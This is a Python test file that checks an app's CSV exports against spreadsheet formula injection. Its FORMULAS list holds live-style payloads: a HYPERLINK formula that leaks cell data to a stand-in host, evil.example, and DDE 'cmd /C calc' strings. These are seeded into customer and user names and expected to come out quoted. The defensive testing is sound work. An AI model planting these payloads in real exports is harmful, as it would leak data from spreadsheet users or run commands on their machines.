"""Every CSV the app serves opens in a spreadsheet as data: a customer's name, an owner's
name or any other text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return reaches the file with a quote before it, never as a formula.

The exports come from the route table (every ``GET ….csv``): a new export is checked as
soon as it exists, and fails here until the data below reaches it.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

from fastapi.testclient import TestClient
from sqlalchemy.orm import Session, sessionmaker

from amends.cases.rules import Step
from amends.clock import FrozenClock
from amends.customers.models import Customer
from amends.db import transaction
from amends.people import service as people
from amends.people.models import User
from amends.people.rules import OPERATOR, Role
from amends.recovery import flows
from amends.web.csvexport import FORMULA_STARTS
from tests.conftest import DEFAULT_PLAYBOOK, PASSWORD, Cast
from tests.helpers import make_case, make_customer, route_table
from tests.web.test_pages import sign_in

# One text per way a spreadsheet starts a formula; the tab and the carriage return are
# written straight into the rows, as an import or an older version could have left them.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _exports(client: TestClient) -> list[str]:
    table = route_table(client.app.routes)  # type: ignore[attr-defined]
    return sorted(path for method, path in table if method == "GET" and path.endswith(".csv"))


def _seed(
    client: TestClient, sessions: sessionmaker[Session], clock: FrozenClock, cast: Cast
) -> None:
    """For each formula: a customer named with it, compensated on a case owned by a
    colleague who is also named with it."""
    later = clock.now() + timedelta(minutes=20)
    for n, formula in enumerate(FORMULAS):
        customer = make_customer(client, cast.manager, name=f"Zákazník {n}")
        with transaction(sessions) as s:
            owner = people.create_user(
                s,
                email=f"owner{n}@example.com",
                name=f"Kolega {n}",
                role=Role.AGENT,
                now=clock.now(),
                password=PASSWORD,
            )
            owner_id = owner.id
        case = make_case(
            client, cast.manager, customer["id"], owner_id, severity="low", category="other"
        )
        with transaction(sessions) as s:
            flows.perform_steps(
                s,
                case["id"],
                actor=OPERATOR,
                now=later,
                playbook=DEFAULT_PLAYBOOK,
                steps=[Step.OWN, Step.REMEDY, Step.COMPENSATE],
                compensation=flows.CompensationInput("credit", Decimal("25"), "EUR", "for it"),
                call_note="Called the customer and told them.",
            )
            # Past the forms' own checks, as stored text can be.
            s.get_one(Customer, customer["id"]).name = formula
            s.get_one(User, owner_id).name = formula


def test_every_csv_export_neutralises_every_cell_that_would_start_a_formula(
    client: TestClient, sessions: sessionmaker[Session], clock: FrozenClock, cast: Cast
) -> None:
    _seed(client, sessions, clock, cast)
    sign_in(client, cast.manager.email)
    exports = _exports(client)
    assert {"/reports/recovery.csv", "/reports/compensation.csv"} <= set(exports)
    for path in exports:
        response = client.get(path)
        assert response.status_code == 200, path
        assert response.headers["content-type"].startswith("text/csv"), path
        assert "attachment" in response.headers["content-disposition"], path
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
        cells = [cell for row in rows for cell in row]
        formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert formulas == [], (path, formulas)
        # The seeded names did reach this export, each one behind a quote.
        for formula in FORMULAS:
            assert "'" + formula in cells, (path, formula)
